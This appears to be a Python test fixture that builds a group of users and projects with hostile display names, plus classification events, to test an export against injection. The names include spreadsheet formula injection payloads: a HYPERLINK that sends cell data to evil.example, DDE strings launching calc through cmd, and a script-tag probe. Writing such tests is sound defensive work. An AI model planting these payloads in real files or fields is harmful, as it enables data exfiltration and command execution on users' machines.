"""Names that strangers chose, so that a spreadsheet or a program does what they want."""

from __future__ import annotations

from collections.abc import Iterator

from gateway.events.event import Classification
from tests.events_of import classification

#: A public group, whose contributors and projects have these names.
HOSTILE = 60
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "Ada;=1+1;",
    "\uff1d1+1",
    'Ada","=1+1","',
    "<script>alert(1)</script>",
    "Zoë, O'Neil \u202e olleh 🦒",
)


def hostile_directory() -> dict[str, object]:
    return {
        "user_groups": [{"id": HOSTILE, "name": "hostile", "stats_visibility": 4}],
        "users": [
            {"id": 3_000 + one, "login": f"hostile-{one}", "display_name": name}
            for one, name in enumerate(NAMES)
        ],
        "projects": [
            {"id": 400 + one, "slug": f"zoo/hostile-{one}", "display_name": name}
            for one, name in enumerate(NAMES)
        ],
        "memberships": [
            {
                "user_id": 3_000 + one,
                "user_group_id": HOSTILE,
                "state": "active",
                "roles": ["group_member"],
            }
            for one in range(len(NAMES))
        ],
    }


def hostile_events() -> Iterator[Classification]:
    """Everybody has classified in their own project, the first ones more often."""
    event = 500_000
    for one in range(len(NAMES)):
        for _ in range(len(NAMES) - one):
            event += 1
            yield classification(
                event, user=3_000 + one, project=400 + one, workflow=900 + one, groups=(HOSTILE,)
            )
